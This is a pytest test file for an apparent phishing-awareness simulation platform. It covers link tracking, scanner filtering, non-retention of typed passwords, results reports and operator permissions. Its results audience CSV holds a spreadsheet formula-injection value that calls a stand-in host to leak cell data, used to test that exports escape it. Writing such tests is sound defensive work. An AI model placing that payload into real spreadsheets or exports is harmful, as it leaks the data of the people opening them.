"""A phishing simulation over real HTTP: the recipients' links (opens, clicks, credentials, attachments, reports) as
browsers and mail scanners hit them, what is never kept of a typed password, the results By User, By Group and By
Attack in the API, the console and the CLI, and who may resend, clear events and remove a bounced mailbox.

The web app is campaignkit's own (ck_web: uvicorn on 127.0.0.1), with 127.0.0.1 as a trusted proxy so that a test
can say which client address a request comes from (X-Forwarded-For), as a reverse proxy would. Emails go to the file
outbox unless a test says smtp (aiosmtpd on 127.0.0.1). Time is the fake clock's, shared by the worker and the app.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import logging
import re
import secrets
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from phishing_support import (
    BROWSER,
    DOCUMENT,
    INVOICE,
    PARCEL,
    Relay,
    audits,
    cli_on,
    events_of,
    results,
    run_of,
    simulation,
    start,
)
from sqlalchemy import select

from campaignkit.core.db import reading
from campaignkit.core.db.schema import audit_history, metadata, runs

PROOFPOINT = "Mozilla/5.0 (compatible; Proofpoint URL Defense/1.0; +https://www.proofpoint.com)"
AUDIENCE = """email,name,groups
ada@example.org,Ada Lovelace,Finance;Managers
bob@example.org,Bob Dylan,Engineering
cy@example.org,Cy Twombly,Engineering;Managers
dee@example.org,Dee Dee Ramone,Sales
"""


@pytest.fixture
def relay() -> Iterator[Relay]:
    with Relay() as relay:
        yield relay


@pytest.fixture
def ck_settings(database_url: str, ck_web_url: str, relay: Relay, tmp_path: Path) -> dict[str, Any]:
    (tmp_path / "templates").mkdir()
    return {
        "database_url": database_url,
        "web": {"base_url": ck_web_url, "trusted_proxies": ["127.0.0.1"]},
        "template_dirs": [str(tmp_path / "templates")],
        "audit": {"sinks": ["jsonl", "stdout"]},
        "plugins": {"config": {"smtp": relay.smtp_config(),
                               "jsonl": {"path": str(tmp_path / "audit" / "audit.jsonl")}}},
    }


@pytest.fixture
def browser(ck_web: Any) -> Iterator[httpx.Client]:
    """A person's browser: a browser's user agent, no cookies of ours."""
    with httpx.Client(base_url=ck_web.url, headers={"User-Agent": BROWSER}) as client:
        yield client


def link_in_email(runtime: Any, token: str) -> str:
    """The recipient's link, as their email in the outbox gives it."""
    for path in (runtime.settings.var_dir / "outbox").glob("*.eml"):
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        if message["X-Campaignkit-Token"] == token:
            text = message.get_body(("plain",)).get_content()  # type: ignore[union-attr]
            found = re.search(rf"{re.escape(runtime.settings.web.base_url)}/p/{token}(?=\s)", text)
            assert found, text
            return found.group(0)
    raise AssertionError(f"no email with token {token}")


def filtered_reasons(runtime: Any, run_id: int) -> list[str]:
    return [e.payload["reason"] for e in events_of(runtime, run_id, "filtered_hit")]


# --- 3. tracking ------------------------------------------------------------------------------------------------------


def test_a_persons_open_click_and_report_are_recorded_once_with_their_first_time(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> None:
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, AUDIENCE)  # the scanner rules as they come: seconds_after_delivery 10
    ada, bob = (results(runtime, campaign_id)[a] for a in ("ada@example.org", "bob@example.org"))
    link = link_in_email(runtime, ada.token)

    clock.advance(2)  # a mail gateway fetches the image as the email arrives: nobody reads that fast
    pixel = browser.get(f"{link}/o.gif")
    assert pixel.status_code == 200 and pixel.headers["content-type"] == "image/gif"
    row = results(runtime, campaign_id)["ada@example.org"]
    assert (row.opened_at, row.filtered_hits) == (None, 1)
    assert filtered_reasons(runtime, ada.run_id) == ["2 s after sending"]

    clock.advance(28)
    first = clock.now()
    assert browser.get(f"{link}/o.gif").status_code == 200
    clock.advance(60)
    assert browser.get(f"{link}/o.gif").status_code == 200  # opened again: the first time stays
    clicked = browser.get(link)
    assert clicked.status_code == 200 and "This was a simulated phishing email" in clicked.text
    clock.advance(60)
    reported = browser.post(f"/p/{ada.token}/report")
    assert (reported.status_code, reported.json()) == (200, {"reported": True, "simulation": True})
    preflight = browser.options("/p/report")  # a mail client's add-in, on its own origin
    assert preflight.status_code == 204
    assert "X-Campaignkit-Token" in preflight.headers["access-control-allow-headers"]
    by_header = browser.post("/p/report", headers={"X-Campaignkit-Token": bob.token})
    assert by_header.status_code == 200 and by_header.headers["access-control-allow-origin"] == "*"

    row = results(runtime, campaign_id)["ada@example.org"]
    assert row.opened_at == first
    assert row.clicked_at == first + timedelta(seconds=60)
    assert row.reported_at == first + timedelta(seconds=120)
    assert (row.submitted_at, row.filtered_hits) == (None, 1)
    counted = events_of(runtime, ada.run_id, "opened", "clicked", "reported")
    assert [e.name for e in counted] == ["opened", "opened", "clicked", "reported"]
    assert all((e.payload["ip"], e.payload["user_agent"]) == ("127.0.0.1", BROWSER) for e in counted)
    assert results(runtime, campaign_id)["bob@example.org"].reported_at == clock.now()
    assert results(runtime, campaign_id)["cy@example.org"].opened_at is None


def test_scanner_hits_are_filtered_and_counted_nowhere(ck_web: Any, ck_campaign: Any, browser: httpx.Client,
                                                        clock: Any) -> None:
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, AUDIENCE, scanners={"networks": ["198.51.100.0/24", "2001:db8::/32"],
                                                         "user_agents": ["AcmeLinkCheck"],
                                                         "seconds_after_delivery": 10})
    bob = results(runtime, campaign_id)["bob@example.org"]
    link = link_in_email(runtime, bob.token)
    clock.advance(5)
    assert browser.get(link).status_code == 200  # too soon after sending
    clock.advance(120)
    assert browser.head(link).status_code == 200  # a link checker's HEAD
    assert browser.get(link, headers={"User-Agent": PROOFPOINT}).status_code == 200
    assert browser.get(f"{link}/o.gif", headers={"User-Agent": "AcmeLinkCheck/2.1"}).status_code == 200
    assert browser.get(link, headers={"X-Forwarded-For": "198.51.100.7"}).status_code == 200
    assert browser.get(f"{link}/o.gif", headers={"X-Forwarded-For": "2001:db8::1"}).status_code == 200

    row = results(runtime, campaign_id)["bob@example.org"]
    assert (row.opened_at, row.clicked_at, row.filtered_hits) == (None, None, 6)
    assert filtered_reasons(runtime, bob.run_id) == [
        "5 s after sending", "HEAD request", "scanner user agent (proofpoint)",
        "scanner user agent (acmelinkcheck)", "scanner network 198.51.100.0/24", "scanner network 2001:db8::/32"]
    hits = events_of(runtime, bob.run_id, "filtered_hit")
    assert [h.payload["hit"] for h in hits] == ["clicked", "clicked", "clicked", "opened", "clicked", "opened"]
    assert hits[4].payload["ip"] == "198.51.100.7"
    assert events_of(runtime, bob.run_id, "opened", "clicked") == []
    api = ck_web.api("auditor", "read")
    listed = api.get(f"/api/campaigns/{campaign_id}/results", params={"event": "Clicked link"}).json()["rows"]
    assert listed == []
    by_attack = api.get(f"/api/campaigns/{campaign_id}/results", params={"by": "attack"}).json()["rows"]
    assert [(r["Attack"], r["Email opened"], r["Clicked link"]) for r in by_attack] == [("Parcel notice", 0, 0)]

    # The person behind the same link, from an address that is no scanner's, counts.
    assert browser.get(link, headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 200
    row = results(runtime, campaign_id)["bob@example.org"]
    assert row.clicked_at == clock.now() and row.filtered_hits == 6
    [click] = events_of(runtime, bob.run_id, "clicked")
    assert (click.payload["ip"], click.payload["user_agent"]) == ("203.0.113.9", BROWSER)


def test_the_scanner_delay_counts_from_when_the_relay_took_the_email(ck_web: Any, ck_campaign: Any, relay: Relay,
                                                                     browser: httpx.Client, clock: Any) -> None:
    """Greylisted first, the email goes out a minute later: Email sent is then, and a gateway's fetch seconds after
    it is a scanner's."""
    relay.rcpt_answers["ada@corp.test"] = ["451 4.7.1 <ada@corp.test>: Recipient address rejected: Greylisted"]
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, "email,name\nada@corp.test,Ada\n", channel="smtp")
    assert relay.accepted == []
    clock.advance(61)
    ck_campaign.run_to_idle()
    [seen] = relay.to("ada@corp.test")
    row = results(runtime, campaign_id)["ada@corp.test"]
    assert seen.message["X-Campaignkit-Token"] == row.token
    assert row.delivery == "Pending" and row.sent_at == clock.now()
    clock.advance(3)
    assert browser.get(f"/p/{row.token}").status_code == 200
    row = results(runtime, campaign_id)["ada@corp.test"]
    assert (row.clicked_at, row.filtered_hits) == (None, 1)
    assert filtered_reasons(runtime, row.run_id) == ["3 s after sending"]


def test_credentials_count_only_after_the_page_was_loaded_and_keep_the_field_names(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> None:
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, AUDIENCE, attacks=[DOCUMENT])
    ada = results(runtime, campaign_id)["ada@example.org"]
    clock.advance(60)
    blind = browser.post(f"/p/{ada.token}/submit", data={"username": "ada", "password": "x"})  # a scanner's POST
    assert blind.status_code == 303
    assert results(runtime, campaign_id)["ada@example.org"].submitted_at is None
    assert filtered_reasons(runtime, ada.run_id) == ["form sent without loading its page"]

    page = browser.get(link_in_email(runtime, ada.token))
    assert page.status_code == 200
    action = re.search(r'<form method="post" action="([^"]+)"', page.text)
    assert action and action.group(1) == f"/p/{ada.token}/submit"
    clock.advance(30)
    sent = browser.post(action.group(1), data={"username": "ada@example.org", "password": "hunter2"})
    assert sent.status_code == 303 and sent.headers["location"] == f"/p/{ada.token}/learn"
    learn = browser.get(sent.headers["location"])
    assert learn.status_code == 200 and "nothing you typed was kept" in learn.text
    row = results(runtime, campaign_id)["ada@example.org"]
    assert row.clicked_at == clock.now() - timedelta(seconds=30) and row.submitted_at == clock.now()
    [submitted] = events_of(runtime, ada.run_id, "submitted")
    assert submitted.payload["fields"] == "username, password"
    assert (submitted.payload["ip"], submitted.payload["user_agent"]) == ("127.0.0.1", BROWSER)


def test_confirm_clicks_counts_the_click_on_the_confirmed_page_and_attachments_count_as_clicks(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> None:
    runtime = ck_campaign.runtime
    confirmed_id = start(ck_campaign, AUDIENCE, name="Confirmed drill", scanners={"confirm_clicks": True})
    attachment_id = start(ck_campaign, AUDIENCE, name="Attachment drill", attacks=[INVOICE])
    clock.advance(60)
    ada = results(runtime, confirmed_id)["ada@example.org"]
    first = browser.get(link_in_email(runtime, ada.token))
    assert first.status_code == 200 and f'"/p/{ada.token}/page"' in first.text
    assert "script-src 'nonce-" in first.headers["content-security-policy"]
    row = results(runtime, confirmed_id)["ada@example.org"]
    assert (row.clicked_at, row.filtered_hits) == (None, 1)
    assert filtered_reasons(runtime, ada.run_id) == ["click not confirmed by the page's script"]
    clock.advance(1)
    page = browser.get(f"/p/{ada.token}/page")  # where the page's script goes
    assert page.status_code == 200 and "This was a simulated phishing email" in page.text
    assert results(runtime, confirmed_id)["ada@example.org"].clicked_at == clock.now()

    bob = results(runtime, attachment_id)["bob@example.org"]
    download = browser.get(f"/p/{bob.token}/a/invoice.html")
    assert download.status_code == 200
    assert download.headers["content-disposition"] == 'attachment; filename="invoice.html"'
    assert results(runtime, attachment_id)["bob@example.org"].clicked_at == clock.now()
    [click] = events_of(runtime, bob.run_id, "clicked")
    assert click.payload["via"] == "attachment"


def test_unknown_tokens_are_404_and_expired_links_410_while_the_grace_period_still_counts(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> None:
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, AUDIENCE, observe_for="P1D", link_grace="PT12H")
    unknown = secrets.token_hex(16)
    for path in (f"/p/{unknown}", f"/p/{unknown}/o.gif", f"/p/{unknown}/a/invoice.html", "/p/not-a-token"):
        assert browser.get(path).status_code == 404, path
    assert browser.post(f"/p/{unknown}/submit", data={"password": "x"}).status_code == 404
    refused = browser.post("/p/report", headers={"X-Campaignkit-Token": unknown})
    assert (refused.status_code, refused.json()) == (404, {"reported": False})
    rejected = audits(runtime, "Link Rejected")
    assert rejected and all(unknown not in (r.details or "") for r in rejected)

    found = results(runtime, campaign_id)
    clock.advance(timedelta(days=1, hours=1))  # the observation is over: the runs end
    ck_campaign.run_to_idle()
    assert {run.status for run in ck_campaign.runs(campaign_id)} == {"completed"}
    cy = found["cy@example.org"]
    assert browser.get(f"/p/{cy.token}").status_code == 200  # within the links' grace period: still a click
    assert results(runtime, campaign_id)["cy@example.org"].clicked_at == clock.now()

    clock.advance(timedelta(hours=11, seconds=1))  # one second past observe_for + link_grace after sending
    dee = found["dee@example.org"]
    for answer in (browser.get(f"/p/{dee.token}"), browser.get(f"/p/{dee.token}/o.gif"),
                   browser.post(f"/p/{dee.token}/report")):
        assert answer.status_code == 410
    row = results(runtime, campaign_id)["dee@example.org"]
    assert (row.clicked_at, row.opened_at, row.reported_at, row.filtered_hits) == (None, None, None, 0)
    assert events_of(runtime, dee.run_id, "clicked", "opened", "reported", "filtered_hit") == []


def test_the_web_limits_guard_the_tracking_pages_served_by_their_own_app(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> None:
    runtime = ck_campaign.runtime
    campaign_id = start(ck_campaign, AUDIENCE)
    ada = results(runtime, campaign_id)["ada@example.org"]
    clock.advance(60)
    limit = runtime.settings.web.max_form_body_bytes
    too_big = browser.post(f"/p/{ada.token}/submit", data={"password": "x" * (limit + 1)})
    assert too_big.status_code == 413  # refused before the form is read: no Entered Credentials
    big = "a" * (runtime.settings.web.max_header_bytes + 1)
    assert browser.get(f"/p/{ada.token}/o.gif", headers={"X-Big": big}).status_code == 431
    assert browser.get(f"/p/{ada.token}/nothing-here").status_code == 404  # no such page: not a hit either
    assert browser.delete(f"/p/{ada.token}").status_code == 405
    row = results(runtime, campaign_id)["ada@example.org"]
    assert (row.submitted_at, row.opened_at, row.clicked_at) == (None, None, None)
    assert events_of(runtime, ada.run_id, "submitted", "opened", "clicked") == []
    assert browser.get(f"/p/{ada.token}/o.gif").status_code == 200  # the same page within the limits is a hit
    assert results(runtime, campaign_id)["ada@example.org"].opened_at == clock.now()


# --- 4. a typed password is kept nowhere ------------------------------------------------------------------------------

MULTIPART_PAGE = """{% extends "pages/base.html" %}
{% block body %}
<form method="post" action="{{ action }}" enctype="multipart/form-data">
  <input name="username" type="text"><input name="password" type="password"><button type="submit">Sign in</button>
</form>
{% endblock %}
"""


def form_body(enctype: str, fields: dict[str, str]) -> tuple[bytes, str]:
    """The body and Content-Type a browser sends for a form of ``enctype``."""
    if enctype == "multipart/form-data":
        boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
                 for name, value in fields.items()]
        return ("".join(parts) + f"--{boundary}--\r\n").encode(), f"multipart/form-data; boundary={boundary}"
    return httpx.QueryParams(fields).__str__().encode(), "application/x-www-form-urlencoded"


@pytest.mark.parametrize("enctype", ["application/x-www-form-urlencoded", "multipart/form-data"])
def test_a_typed_password_is_stored_logged_and_audited_nowhere(
        ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any, tmp_path: Path,
        caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], enctype: str) -> None:
    caplog.set_level(logging.DEBUG)
    runtime = ck_campaign.runtime
    page_dir = tmp_path / "templates" / "pages" / "custom"
    page_dir.mkdir(parents=True)
    (page_dir / "sign_in.html").write_text(MULTIPART_PAGE)
    # The bundled sign-in page posts its form urlencoded; an attack's own landing page may post it multipart.
    attack = {**DOCUMENT, **({"landing_page": "pages/custom/sign_in.html"} if enctype == "multipart/form-data"
                             else {})}
    campaign_id = start(ck_campaign, AUDIENCE, attacks=[attack])
    ada = results(runtime, campaign_id)["ada@example.org"]
    clock.advance(60)
    secret = uuid.uuid4().hex
    password = f"Tr0ub4dor&{secret}"  # as people type them: '&' included

    page = browser.get(link_in_email(runtime, ada.token))
    assert page.status_code == 200 and ('enctype="multipart/form-data"' in page.text) == (
        enctype == "multipart/form-data")
    action = re.search(r'action="([^"]+)"', page.text)
    assert action
    body, content_type = form_body(enctype, {"username": "ada@example.org", "password": password})
    sent = browser.post(action.group(1), content=body, headers={"Content-Type": content_type})
    assert sent.status_code == 303
    assert browser.get(sent.headers["location"]).status_code == 200

    row = results(runtime, campaign_id)["ada@example.org"]
    assert row.submitted_at == clock.now()  # counted: the form did reach the code that must forget the values
    sinks = ck_campaign.dispatch_audit()
    assert sinks["jsonl"] > 0 and sinks["stdout"] == sinks["jsonl"]

    with reading(runtime.engine) as conn:
        trail = [str(tuple(row)) for row in conn.execute(select(audit_history))]
        assert trail
        tables = [f"{table.name} {tuple(row)}" for table in metadata.sorted_tables  # PostgreSQL has no file
                  for row in conn.execute(select(table))]
    captured = capfd.readouterr()
    logged = [f"{r.name} {r.getMessage()} {r.exc_text or ''}" for r in caplog.records]
    stored = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert any(path.name == "campaignkit.db" for path in stored) or "postgres" in runtime.settings.database_url
    assert (tmp_path / "audit" / "audit.jsonl").stat().st_size > 0
    for needle in (secret, password):
        assert not [path for path, data in stored.items() if needle.encode() in data], needle  # db, -wal, sinks
        assert not [line for line in trail if needle in line]
        assert not [line for line in tables if needle in line]
        assert needle not in captured.out and needle not in captured.err
        assert not [line for line in logged if needle in line]
    [submitted] = events_of(runtime, ada.run_id, "submitted")
    assert submitted.payload["fields"] == "username, password"  # the names, as the form has them


# --- 6. results -------------------------------------------------------------------------------------------------------

RESULTS_AUDIENCE = """email,name,groups
ada@example.org,Ada Lovelace,Finance;Managers
bob@example.org,Bob Dylan,Engineering
cy@example.org,Cy Twombly,Engineering;Managers
dee@nodot,Dee Dee Ramone,Sales
eve@example.org,"=HYPERLINK(""http://evil.test/?""&A1)",Sales;=SUM(1+1)
fay@example.org,Fay Wray,
"""


@pytest.fixture
def drill(ck_web: Any, ck_campaign: Any, browser: httpx.Client, clock: Any) -> dict[str, Any]:
    """A simulation with results: two attacks at random, then a third added in a second version; ada opened,
    clicked and entered credentials, bob opened, cy clicked and reported, eve opened, dee's address is invalid."""
    runtime = ck_campaign.runtime
    path = ck_campaign.csv(RESULTS_AUDIENCE, "results.csv")
    campaign_id = ck_campaign.create(simulation(path, "Results drill", assignment="random",
                                                attacks=[PARCEL, DOCUMENT]))
    ck_campaign.launch(campaign_id)
    ck_campaign.run_to_idle()
    from phishing_support import new_version

    new_version(ck_campaign, campaign_id, simulation(path, "Results drill", assignment="random",
                                                     attacks=[PARCEL, DOCUMENT, INVOICE]))
    found = results(runtime, campaign_id)
    clock.advance(60)
    for address, hits in (("ada@example.org", ("o.gif", "", "submit")), ("bob@example.org", ("o.gif",)),
                          ("cy@example.org", ("", "report")), ("eve@example.org", ("o.gif",))):
        for hit in hits:
            url = f"/p/{found[address].token}" + (f"/{hit}" if hit else "")
            answer = browser.post(url, data={"username": "u"}) if hit in ("submit", "report") else browser.get(url)
            assert answer.status_code in (200, 303), (url, answer.status_code)
            clock.advance(10)
    with reading(runtime.engine) as conn:
        chosen = {run.target_key: run.context["attack"] for run in conn.execute(
            select(runs).where(runs.c.campaign_id == campaign_id))}
    return {"id": campaign_id, "attacks": chosen}


def emails(rows: list[dict[str, Any]]) -> list[str]:
    return [row["Email"] for row in rows]


def test_results_by_user_filter_sort_and_page_in_the_api(ck_web: Any, drill: dict[str, Any]) -> None:
    api = ck_web.api("auditor", "read")
    campaign_id = drill["id"]

    def listed(**params: Any) -> list[str]:
        answer = api.get(f"/api/campaigns/{campaign_id}/results", params={"by": "user", **params})
        assert answer.status_code == 200, answer.text
        return emails(answer.json()["rows"])

    everyone = ["ada@example.org", "bob@example.org", "cy@example.org", "dee@nodot", "eve@example.org",
                "fay@example.org"]
    assert listed() == everyone
    assert listed(delivery="Failed") == ["dee@nodot"]
    assert listed(delivery="Pending") == [e for e in everyone if e != "dee@nodot"]
    assert listed(event="Clicked link") == ["ada@example.org", "cy@example.org"]
    assert listed(event="Email opened") == ["ada@example.org", "bob@example.org", "eve@example.org"]
    assert listed(event="Entered Credentials") == ["ada@example.org"]
    assert listed(event="Reported Email") == ["cy@example.org"]
    assert listed(group="Managers") == ["ada@example.org", "cy@example.org"]
    assert listed(group="Managers", event="Reported Email") == ["cy@example.org"]
    for attack in ("Parcel notice", "Shared document"):
        assert listed(attack=attack) == sorted(k for k, v in drill["attacks"].items() if v == attack)
    assert listed(attack="Overdue invoice") == []
    assert listed(search="C") == ["cy@example.org"]
    assert listed(search="d") == ["dee@nodot"]
    assert listed(event="Clicked link", sort="-clicked") == ["cy@example.org", "ada@example.org"]
    assert listed(event="Email opened", sort="opened") == ["ada@example.org", "bob@example.org", "eve@example.org"]
    assert listed(sort="-user", limit=2) == ["fay@example.org", "eve@example.org"]
    assert listed(limit=2, offset=2) == ["cy@example.org", "dee@nodot"]
    assert listed(limit=2, offset=6) == []

    [dee] = api.get(f"/api/campaigns/{campaign_id}/results", params={"delivery": "Failed"}).json()["rows"]
    assert "invalid recipient address" in dee["Delivery Detail"]
    assert api.get(f"/api/campaigns/{campaign_id}/results", params={"event": "Danced"}).status_code == 400
    assert api.get(f"/api/campaigns/{campaign_id}/results", params={"sort": "shoe size"}).status_code == 400


def test_results_by_group_and_by_attack_count_users(ck_web: Any, drill: dict[str, Any]) -> None:
    api = ck_web.api("auditor", "read")
    campaign_id = drill["id"]
    by_group = {row["Group"]: row for row in api.get(f"/api/campaigns/{campaign_id}/results",
                                                     params={"by": "group"}).json()["rows"]}
    assert sorted(by_group) == ["=SUM(1+1)", "Engineering", "Finance", "Managers", "Sales"]

    def counts(row: dict[str, Any]) -> tuple[int, ...]:
        return tuple(row[c] for c in ("Users", "Email sent", "Pending", "Failed", "Email opened", "Clicked link",
                                      "Entered Credentials", "Reported Email"))

    assert counts(by_group["Managers"]) == (2, 2, 2, 0, 1, 2, 1, 1)  # ada and cy, each in two groups
    assert counts(by_group["Engineering"]) == (2, 2, 2, 0, 1, 1, 0, 1)
    assert counts(by_group["Finance"]) == (1, 1, 1, 0, 1, 1, 1, 0)
    assert counts(by_group["Sales"]) == (2, 1, 1, 1, 1, 0, 0, 0)  # dee's email was never sent
    assert counts(by_group["=SUM(1+1)"]) == (1, 1, 1, 0, 1, 0, 0, 0)

    by_attack = {row["Attack"]: row for row in api.get(f"/api/campaigns/{campaign_id}/results",
                                                       params={"by": "attack"}).json()["rows"]}
    assert sorted(by_attack) == ["Overdue invoice", "Parcel notice", "Shared document"]  # every version's
    assert counts(by_attack["Overdue invoice"]) == (0,) * 8
    for attack in ("Parcel notice", "Shared document"):
        assert by_attack[attack]["Users"] == list(drill["attacks"].values()).count(attack)
    assert sum(row["Users"] for row in by_attack.values()) == 6
    assert sum(row["Clicked link"] for row in by_attack.values()) == 2


def test_the_csv_export_is_the_same_from_the_cli_the_api_and_the_console(
        ck_web: Any, ck_campaign: Any, drill: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
        database_url: str) -> None:
    campaign_id = drill["id"]
    cli = cli_on(ck_campaign, monkeypatch, tmp_path, database_url)
    api = ck_web.api("operator", "read")
    auditor = ck_web.console("auditor")
    for params in ({"by": "user"}, {"by": "user", "group": "Managers", "sort": "-clicked"},
                   {"by": "group"}, {"by": "attack"}):
        from_api = api.get(f"/api/campaigns/{campaign_id}/results/export", params=params)
        from_console = auditor.get(f"/campaigns/{campaign_id}/results/export", params=params)
        options = [f"--{key}={value}" for key, value in params.items()]
        from_cli = cli("phishing", "results", campaign_id, *options, "--format", "csv").stdout
        assert from_api.status_code == 200 and from_console.status_code == 200
        assert from_api.headers["content-type"].startswith("text/csv")
        assert from_api.text == from_console.text == from_cli, params

    rows = list(csv.DictReader(io.StringIO(cli("phishing", "results", campaign_id, "--format", "csv").stdout)))
    header = list(rows[0])
    assert header[:5] == ["User", "Email", "Attack", "Groups", "Email sent"]
    assert {"Delivery Status", "Email opened", "Reported Email", "Clicked link", "Entered Credentials",
            "Delivery Detail", "Filtered Hits"} <= set(header)
    assert [row["Email"] for row in rows] == ["ada@example.org", "bob@example.org", "cy@example.org", "dee@nodot",
                                              "eve@example.org", "fay@example.org"]
    eve = rows[4]
    assert eve["User"] == "'=HYPERLINK(\"http://evil.test/?\"&A1)"  # shown as text, never evaluated
    assert eve["Groups"].startswith("'=SUM(1+1)")
    assert rows[0]["Clicked link"] and rows[0]["Entered Credentials"] and not rows[1]["Clicked link"]
    assert rows[3]["Delivery Status"] == "Failed" and "invalid recipient address" in rows[3]["Delivery Detail"]
    groups = list(csv.reader(io.StringIO(cli("phishing", "results", campaign_id, "--by", "group",
                                             "--format", "csv").stdout)))
    assert [row[:2] for row in groups if row[0].endswith("SUM(1+1)")] == [["'=SUM(1+1)", "1"]]


def test_the_console_tabs_list_and_filter_the_results(ck_web: Any, drill: dict[str, Any]) -> None:
    auditor = ck_web.console("auditor")
    campaign_id = drill["id"]
    page = auditor.get(f"/campaigns/{campaign_id}", params={"tab": "By User", "group": "Managers"})
    assert page.status_code == 200
    assert "Ada Lovelace" in page.text and "Cy Twombly" in page.text and "Bob Dylan" not in page.text
    for tab, label in (("By Group", "Engineering"), ("By Attack", "Overdue invoice")):
        page = auditor.get(f"/campaigns/{campaign_id}", params={"tab": tab})
        assert page.status_code == 200 and label in page.text


# --- 7. who may change results ----------------------------------------------------------------------------------------


def test_only_operators_resend_clear_and_unbounce_and_each_is_audited(
        ck_web: Any, ck_campaign: Any, drill: dict[str, Any]) -> None:
    runtime = ck_campaign.runtime
    campaign_id = drill["id"]
    sub_types = ("Resend Requested", "Campaign Events Cleared", "Bounced Mailbox Removed")
    before = results(runtime, campaign_id)
    assert before["ada@example.org"].clicked_at is not None

    for client in (ck_web.api("auditor", "read"), ck_web.api("operator", "read")):
        assert client.post(f"/api/campaigns/{campaign_id}/resend",
                           json={"users": ["dee@nodot"]}).status_code == 403
        assert client.post(f"/api/campaigns/{campaign_id}/clear-events",
                           json={"users": ["ada@example.org"]}).status_code == 403
        assert client.delete("/api/bounced-mailboxes/dee@nodot").status_code == 403
    auditor = ck_web.console("auditor")
    for action in ("resend", "clear"):
        refused = auditor.client.post(f"/campaigns/{campaign_id}/results/selected", data={
            "action": action, "user": ["ada@example.org", "dee@nodot"], "confirmed": "yes", "csrf": auditor.csrf})
        assert refused.status_code == 403
    assert auditor.submit("/bounced-mailboxes/remove", address="dee@nodot").status_code == 403
    assert results(runtime, campaign_id) == before
    assert [r for sub_type in sub_types for r in audits(runtime, sub_type)] == []
    assert auditor.get("/bounced-mailboxes").status_code == 200  # reading is for everyone

    operator = ck_web.api("operator", "write")
    cleared = operator.post(f"/api/campaigns/{campaign_id}/clear-events", json={"users": ["ada@example.org"]})
    assert (cleared.status_code, cleared.json()) == (200, {"users": 1, "events": 3})
    [record] = audits(runtime, "Campaign Events Cleared")
    assert (record.user_name, record.computer_ip, record.object_id) == ("operator-tester", "127.0.0.1", campaign_id)
    assert record.details == "cleared 3 event(s) of 1 user(s): ada@example.org"
    ada = results(runtime, campaign_id)["ada@example.org"]
    assert (ada.opened_at, ada.clicked_at, ada.submitted_at) == (None, None, None)
    assert ada.sent_at == before["ada@example.org"].sent_at and ada.delivery == "Pending"

    resent = operator.post(f"/api/campaigns/{campaign_id}/resend", json={"users": ["dee@nodot", "fay@example.org"]})
    assert (resent.status_code, resent.json()) == (200, {"resent": 2, "skipped": []})
    [record] = audits(runtime, "Resend Requested")
    assert record.user_name == "operator-tester" and record.details == (
        "resend to 2 user(s): dee@nodot, fay@example.org")
    missing = operator.post(f"/api/campaigns/{campaign_id}/resend", json={"users": ["zed@example.org"]})
    assert missing.status_code == 404 and "zed@example.org" in missing.json()["detail"]

    assert operator.delete("/api/bounced-mailboxes/dee@nodot").json() == {"removed": "dee@nodot"}
    [record] = audits(runtime, "Bounced Mailbox Removed")
    assert record.user_name == "operator-tester" and record.details.startswith("removed dee@nodot (")
    assert operator.delete("/api/bounced-mailboxes/dee@nodot").status_code == 404

    # In the console an operator confirms first; the change is audited as the person.
    person = ck_web.console("operator")
    fields = {"action": "clear", "user": ["cy@example.org"], "csrf": person.csrf}
    asked = person.client.post(f"/campaigns/{campaign_id}/results/selected", data=fields)
    assert asked.status_code == 200 and "cy@example.org" in asked.text
    assert results(runtime, campaign_id)["cy@example.org"].clicked_at is not None
    done = person.client.post(f"/campaigns/{campaign_id}/results/selected", data={**fields, "confirmed": "yes"})
    assert done.status_code == 303
    assert results(runtime, campaign_id)["cy@example.org"].clicked_at is None
    records = audits(runtime, "Campaign Events Cleared")
    assert len(records) == 2 and records[1].details == "cleared 2 event(s) of 1 user(s): cy@example.org"
    assert records[1].user_name == "operator-tester"
    assert run_of(runtime, before["cy@example.org"].run_id).status == "waiting"
